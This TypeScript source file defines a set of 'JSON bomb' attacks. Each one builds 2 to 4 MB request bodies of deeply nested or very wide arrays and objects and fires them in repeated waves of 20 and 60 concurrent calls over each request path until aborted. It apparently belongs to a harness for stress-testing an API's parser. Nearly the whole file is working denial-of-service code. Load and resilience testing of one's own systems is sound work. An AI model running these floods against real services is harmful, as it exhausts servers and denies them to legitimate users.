// Bodies that are small for a caller and large for who parses them.
import type { Attack, AttackContext } from './attack.ts';
import { toCallRequest, ways } from './messages.ts';
import { ask } from './requests.ts';

const BODY_BYTES = 2_000_000;
/** Just below the largest body that is taken by default, 4 MiB. */
const DEEP_BYTES = 4 * 1024 * 1024 - 2_048;
const WAVES = [20, 60];

export const jsonBombs: readonly Attack[] = [
  {
    name: 'nested-arrays',
    does: 'sends calls of 2 MB of arrays inside arrays, 20 at once and then 60 at once, over each way in',
    run: (context) => inWaves(context, nest('[', ']', BODY_BYTES)),
  },
  {
    name: 'wide-arrays',
    does: 'the same with 2 MB of small arrays side by side',
    run: (context) => inWaves(context, fill('[', '[[]]', ']', BODY_BYTES)),
  },
  {
    name: 'wide-objects',
    does: 'the same with 2 MB of small objects under as many different names',
    run: (context) => inWaves(context, toWideObject(BODY_BYTES)),
  },
  {
    name: 'deep-json',
    does: 'the same with 4 MB of objects inside objects',
    run: (context) => inWaves(context, nest('{"a":', '}', DEEP_BYTES)),
  },
];

async function inWaves(context: AttackContext, bomb: string): Promise<void> {
  const requests = ways.map((way) => {
    const made = toCallRequest(`{"text":${bomb}}`, { key: context.key, way });
    return { ...made, body: Buffer.from(made.body) };
  });
  for (let wave = 0; !context.signal.aborted; wave += 1) {
    const request = requests[Math.floor(wave / WAVES.length) % requests.length];
    const size = WAVES[wave % WAVES.length];
    await Promise.all(Array.from({ length: size ?? 0 }, () => ask(context, { ...request })));
    context.count(`waves of ${size}`);
  }
}

function nest(open: string, close: string, bytes: number): string {
  const depth = Math.floor((bytes - 1) / (open.length + close.length));
  return `${open.repeat(depth)}${open === '[' ? '' : '1'}${close.repeat(depth)}`;
}

function fill(open: string, part: string, close: string, bytes: number): string {
  return `${open}${`${part},`.repeat(Math.floor(bytes / (part.length + 1)))}${part}${close}`;
}

function toWideObject(bytes: number): string {
  const parts: string[] = [];
  for (let size = 0, count = 0; size < bytes; count += 1) {
    const part = `"k${count}":{}`;
    parts.push(part);
    size += part.length + 1;
  }
  return `{${parts.join(',')}}`;
}
